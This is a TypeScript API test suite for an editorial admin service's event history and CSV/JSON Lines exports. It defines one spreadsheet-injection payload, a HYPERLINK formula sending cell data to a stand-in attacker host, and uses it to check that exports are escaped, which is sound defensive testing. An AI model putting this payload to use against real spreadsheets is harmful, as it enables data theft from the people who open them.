import request from 'supertest';
import type { Role } from '@marginalia/domain';
import { startAdminApi, type RunningAdminApi } from '../support/admin-api';
import {
  bearer,
  captureClaim,
  import002,
  NON_COAL_GROWTH,
  PINYIN_IN_COAL_POWER,
  PINYIN_IN_RECYCLING,
  settled,
} from './support/desk';
import { expectRefused } from './support/refused';
import { parseCsv } from '../support/csv';

interface Entry {
  position: number;
  recordedAt: string;
  streamId: string;
  revision: number;
  type: string;
  actor: { sub: string };
  reason: string | null;
  annotationId: string | null;
}

interface Feed {
  items: Entry[];
}

/** A reason that a spreadsheet would run as a formula if the export let it. */
const FORMULA = '=HYPERLINK("https://evil.example/steal?d="&A1,"詳見")';

describe('histories and the event feed', () => {
  let api: RunningAdminApi;
  let auditor: string;
  let articleId: string;
  let claimId: string;
  let rejectedId: string;
  let publishedId: string;

  beforeAll(async () => {
    api = await startAdminApi();
    auditor = await bearer(api, 'auditor');
    const editor = await bearer(api, 'editor');
    const standards = await bearer(api, 'standards_editor');
    await import002(api, 'history-other');
    articleId = await import002(api, 'history');
    claimId = await captureClaim(api, articleId, { exact: NON_COAL_GROWTH });
    const propose = (selector: object) =>
      request(api.url)
        .post(`/v1/articles/${articleId}/corrections`)
        .set('Authorization', editor)
        .send({ selector, kind: 'correction', replacement: '推動', notice: '更正：拼音殘留。' })
        .expect(201)
        .then((response) => response.body.id as string);
    rejectedId = await propose(PINYIN_IN_COAL_POWER);
    await request(api.url)
      .post(`/v1/corrections/${rejectedId}/reject`)
      .set('Authorization', standards)
      .send({ reason: FORMULA })
      .expect(200);
    publishedId = await propose(PINYIN_IN_RECYCLING);
    await request(api.url)
      .post(`/v1/corrections/${publishedId}/approve`)
      .set(
        'Authorization',
        `Bearer ${await api.tokenFor({ sub: 'standards-zhao', roles: ['standards_editor'] })}`,
      )
      .expect(200);
    await settled(api);
  });

  afterAll(() => api.stop());

  const history = (path: string, token = auditor) =>
    request(api.url).get(path).set('Authorization', token);
  const all = async (path: string) =>
    (await history(`${path}${path.includes('?') ? '&' : '?'}limit=500`).expect(200)).body
      .items as Entry[];

  describe('as JSON', () => {
    it('lists every event of the article and its annotations in log order', async () => {
      const entries = await all(`/v1/articles/${articleId}/history`);
      expect(entries.map((e) => e.type)).toEqual([
        'ArticleImported',
        'ClaimCaptured',
        'CorrectionProposed',
        'CorrectionRejected',
        'CorrectionProposed',
        'CorrectionApproved',
        'ArticleRevised',
        'CorrectionPublished',
        'AnnotationReanchored',
      ]);
      const positions = entries.map((e) => e.position);
      expect([...positions].sort((a, b) => a - b)).toEqual(positions);
      expect(entries[3]).toMatchObject({
        streamId: `correction-${rejectedId}`,
        actor: { sub: 'standards-zhang' },
        reason: FORMULA,
        annotationId: rejectedId,
      });
      expect(entries.find((e) => e.type === 'ArticleRevised')!.actor.sub).toBe('system');
    });

    it('pages with limit and the opaque cursor', async () => {
      const entries = await all(`/v1/articles/${articleId}/history`);
      const seen: Entry[] = [];
      let cursor: string | null = null;
      do {
        const query: string = cursor === null ? '' : `&cursor=${cursor}`;
        const page = await history(`/v1/articles/${articleId}/history?limit=4${query}`).expect(200);
        expect(page.body.items.length).toBeLessThanOrEqual(4);
        seen.push(...page.body.items);
        cursor = page.body.nextCursor;
      } while (cursor !== null);
      expect(seen).toEqual(entries);
    });

    it('filters by types (repeated or comma-separated), actor and time', async () => {
      const path = `/v1/articles/${articleId}/history`;
      const types = (entries: Entry[]) => entries.map((e) => e.type);
      expect(types(await all(`${path}?type=CorrectionProposed,CorrectionRejected`))).toEqual([
        'CorrectionProposed',
        'CorrectionRejected',
        'CorrectionProposed',
      ]);
      expect(types(await all(`${path}?type=ClaimCaptured&type=CorrectionPublished`))).toEqual([
        'ClaimCaptured',
        'CorrectionPublished',
      ]);
      expect(types(await all(`${path}?actor=system`))).toEqual([
        'ArticleRevised',
        'CorrectionPublished',
        'AnnotationReanchored',
      ]);
      const entries = await all(path);
      const from = entries[2]!.recordedAt;
      const to = entries[3]!.recordedAt;
      const between = await all(
        `${path}?from=${encodeURIComponent(from)}&to=${encodeURIComponent(to)}`,
      );
      expect(between.length).toBeGreaterThanOrEqual(2);
      expect(between.every((e) => e.recordedAt >= from && e.recordedAt <= to)).toBe(true);
      expect(await all(`${path}?to=2024-12-03T00:00:00%2B08:00`)).toEqual([]);
    });

    it('gives one claim’s or one correction’s own events', async () => {
      const claim = await all(`/v1/claims/${claimId}/history`);
      expect(claim.map((e) => e.type)).toEqual(['ClaimCaptured', 'AnnotationReanchored']);
      expect(claim.every((e) => e.streamId === `claim-${claimId}`)).toBe(true);
      const correction = await all(`/v1/corrections/${publishedId}/history`);
      expect(correction.map((e) => e.type)).toEqual([
        'CorrectionProposed',
        'CorrectionApproved',
        'CorrectionPublished',
      ]);
    });
  });

  describe('as JSON Lines and CSV', () => {
    it('streams every matching entry as application/x-ndjson', async () => {
      const response = await history(
        `/v1/articles/${articleId}/history?format=jsonl&type=CorrectionProposed,CorrectionPublished`,
      ).expect(200);
      expect(response.headers['content-type']).toBe('application/x-ndjson');
      const lines = response.text.split('\n');
      expect(lines.pop()).toBe('');
      const expected = await all(
        `/v1/articles/${articleId}/history?type=CorrectionProposed,CorrectionPublished`,
      );
      expect(lines.map((line) => JSON.parse(line) as Entry)).toEqual(expected);
    });

    it('exports CSV as an attachment, with the SPEC’s columns and no cell a spreadsheet would run', async () => {
      const response = await history(`/v1/articles/${articleId}/history?format=csv`)
        .buffer(true)
        .parse((res, done) => {
          let text = '';
          res.on('data', (chunk: Buffer) => (text += chunk.toString('utf8')));
          res.on('end', () => done(null, text));
        })
        .expect(200);
      expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
      expect(response.headers['content-disposition']).toBe(
        `attachment; filename="article-${articleId}-history.csv"`,
      );
      const rows = parseCsv(response.body as string);
      expect(rows[0]).toEqual([
        'position',
        'recordedAt',
        'streamId',
        'revision',
        'type',
        'actor',
        'reason',
        'correlationId',
        'causationId',
        'data',
      ]);
      const entries = await all(`/v1/articles/${articleId}/history`);
      expect(rows.slice(1).map((row) => [Number(row[0]), row[4], row[5]])).toEqual(
        entries.map((e) => [e.position, e.type, e.actor.sub]),
      );
      const rejection = rows.find((row) => row[4] === 'CorrectionRejected')!;
      expect(rejection[6]).toBe(`'${FORMULA}`);
      expect(rows.slice(1).every((row) => row.every((cell) => !/^[=+\-@\t\r]/.test(cell)))).toBe(
        true,
      );
      expect(JSON.parse(rejection[9]!)).toMatchObject({
        correctionId: rejectedId,
        reason: FORMULA,
      });
    });

    it('refuses limit and cursor, which page the JSON form only', async () => {
      await expectRefused(
        api,
        () => history(`/v1/articles/${articleId}/history?format=csv&limit=2`),
        400,
        'validation_failed',
      );
    });
  });

  describe('refusals', () => {
    it.each<Role>(['editor', 'fact_checker'])('answers 403 to the %s', async (role) => {
      const token = await bearer(api, role);
      for (const path of [
        `/v1/articles/${articleId}/history`,
        `/v1/claims/${claimId}/history`,
        `/v1/corrections/${publishedId}/history?format=csv`,
      ]) {
        await expectRefused(api, () => history(path, token), 403, 'forbidden');
      }
    });

    it.each<Role>(['auditor', 'standards_editor', 'admin'])('answers the %s', async (role) => {
      await history(`/v1/claims/${claimId}/history`, await bearer(api, role)).expect(200);
    });

    it('answers 400 for an unknown type, format or a time without its offset', async () => {
      for (const query of [
        'type=ClaimCreated',
        'format=xlsx',
        'from=2024-12-03',
        'to=tomorrow',
        'limit=501',
      ]) {
        await expectRefused(
          api,
          () => history(`/v1/articles/${articleId}/history?${query}`),
          400,
          'validation_failed',
        );
      }
    });

    it('answers 404 for what does not exist', async () => {
      const unknown = '0190f5c2-0000-7000-8000-000000000000';
      for (const kind of ['articles', 'claims', 'corrections']) {
        await expectRefused(api, () => history(`/v1/${kind}/${unknown}/history`), 404, 'not_found');
      }
    });
  });

  describe('GET /v1/events', () => {
    it('pages the global log after a position, exclusive', async () => {
      const head = await api.headPosition();
      const first = await history('/v1/events?after=0&limit=3').expect(200);
      expect((first.body as Feed).items.map((e) => e.position)).toEqual([1, 2, 3]);
      expect(first.body).toMatchObject({ lastPosition: 3, headPosition: head });
      expect(Object.keys(first.body.items[0]).sort()).toEqual([
        'data',
        'leafIndex',
        'metadata',
        'position',
        'recordedAt',
        'revision',
        'schemaVersion',
        'streamId',
        'type',
      ]);
      expect(first.body.items[0]).toMatchObject({
        position: 1,
        leafIndex: 0,
        revision: 0,
        type: 'ArticleImported',
        schemaVersion: 1,
        metadata: { actor: { sub: 'editor-li' }, hash: expect.stringMatching(/^[0-9a-f]{64}$/) },
      });
      const next = await history(
        `/v1/events?after=${first.body.lastPosition}&limit=500`,
        await bearer(api, 'admin'),
      ).expect(200);
      expect((next.body as Feed).items.map((e) => e.position)).toEqual(
        Array.from({ length: head - 3 }, (_, i) => i + 4),
      );
      const end = await history(`/v1/events?after=${head}`).expect(200);
      expect(end.body).toEqual({ items: [], lastPosition: head, headPosition: head });
    });

    it('answers 403 to the newsroom and 400 for a malformed position', async () => {
      for (const role of ['editor', 'fact_checker', 'standards_editor'] as const) {
        await expectRefused(
          api,
          async () => history('/v1/events', await bearer(api, role)),
          403,
          'forbidden',
        );
      }
      await expectRefused(api, () => history('/v1/events?after=-1'), 400, 'validation_failed');
    });
  });
});
